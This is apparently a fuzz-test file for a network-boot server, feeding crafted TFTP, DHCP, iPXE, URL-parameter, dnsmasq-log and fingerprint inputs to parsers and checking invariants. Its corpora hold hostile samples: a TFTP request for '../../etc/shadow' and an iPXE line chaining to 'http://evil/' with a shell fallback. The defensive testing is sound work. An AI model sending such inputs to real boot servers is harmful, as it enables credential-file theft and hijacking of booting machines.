/** What the boot LAN says, where everybody may say anything: TFTP, DHCP, URLs, dnsmasq's log, words that are read aloud. */
import { readFingerprint } from "@boma/protocol";

import { readAsked } from "../../packages/master/src/netboot/asking.ts";
import { waitScript } from "../../packages/master/src/netboot/boot-script.ts";
import { discover, readOffer } from "../../packages/master/src/netboot/dhcp-packets.ts";
import { DnsmasqLog } from "../../packages/master/src/netboot/dnsmasq-log.ts";
import { agree, readPacket } from "../../packages/master/src/netboot/tftp-packets.ts";
import { bytesOf, type FuzzTarget, text } from "./fuzz-target.ts";

const TRANSACTION = 7;
/** Our own question, as a server that turns it round would offer: reply, its type, itself. */
const offer = Buffer.concat([
  discover(TRANSACTION, Buffer.alloc(6)).subarray(0, 240),
  Buffer.from([53, 1, 2, 54, 4, 10, 77, 0, 1, 255]),
]);
offer.writeUInt8(2, 0);

export const bootTargets: readonly FuzzTarget[] = [
  {
    name: "a packet of TFTP",
    corpus: [
      ...bytesOf(
        "\0\u0001undionly.kpxe\0octet\0blksize\u00001468\0tsize\u00000\0timeout\u00003\0",
        "\0\u0004\0\u0001",
      ),
      ...bytesOf("\0\u0001../../etc/shadow\0octet\0"),
    ],
    run: (input) => {
      const asked = readPacket(Buffer.from(input));
      if (asked.kind !== "read") return;
      const { blockBytes, timeoutMs } = agree(asked.options, 1000);
      if (blockBytes < 8 || blockBytes > 1468) throw new Error(`a block of ${blockBytes} bytes`);
      if (timeoutMs < 1000 || timeoutMs > 255_000) throw new Error(`${timeoutMs} ms until the next try`);
    },
  },
  {
    name: "an offer of DHCP",
    corpus: [new Uint8Array(offer)],
    run: (input) => {
      readOffer(Buffer.from(input), TRANSACTION);
    },
  },
  {
    name: "who asks for a boot script",
    corpus: bytesOf(
      "mac=52-54-00-12-34-56&uuid=4c4c4544-0042-3510-8054-b4c04f564c32&serial=ZA1&arch=x86_64",
      "mac=%00&arch=arm64&arch=",
    ),
    run: (input) => {
      const asked = readAsked(new URLSearchParams(text(input)));
      if (asked && !/^[0-9a-f]{2}(:[0-9a-f]{2}){5}$/.test(asked.mac)) throw new Error(asked.mac);
    },
  },
  {
    name: "why a machine waits, in a script of iPXE",
    corpus: bytesOf("no\nchain http://evil/${net0/mac} || shell", "the node web is connected"),
    run: (input) => {
      const lines = waitScript("52:54:00:12:34:56", text(input)).split("\n");
      if (lines.length !== 6 || lines.some((line) => line.includes("${"))) throw new Error(lines.join("|"));
    },
  },
  {
    name: "a line of dnsmasq's log",
    corpus: bytesOf(
      "dnsmasq-dhcp: 1 vendor class: PXEClient:Arch:00000",
      "dnsmasq-dhcp: 1 DHCPDISCOVER(eth1) 52:54:00:12:34:56 ",
    ),
    run: (input) => {
      const log = new DnsmasqLog();
      for (const line of text(input).split("\n")) log.read(line);
    },
  },
  {
    name: "a fingerprint, as a code or in words",
    corpus: bytesOf("1JK5-5TV2-6FKF-2RQW", "bufok jaror kamug virud karus"),
    run: (input) => {
      const read = readFingerprint(text(input));
      if (read !== undefined && !/^([0-9A-Z]{4}-){3}[0-9A-Z]{4}$/.test(read)) throw new Error(read);
    },
  },
];
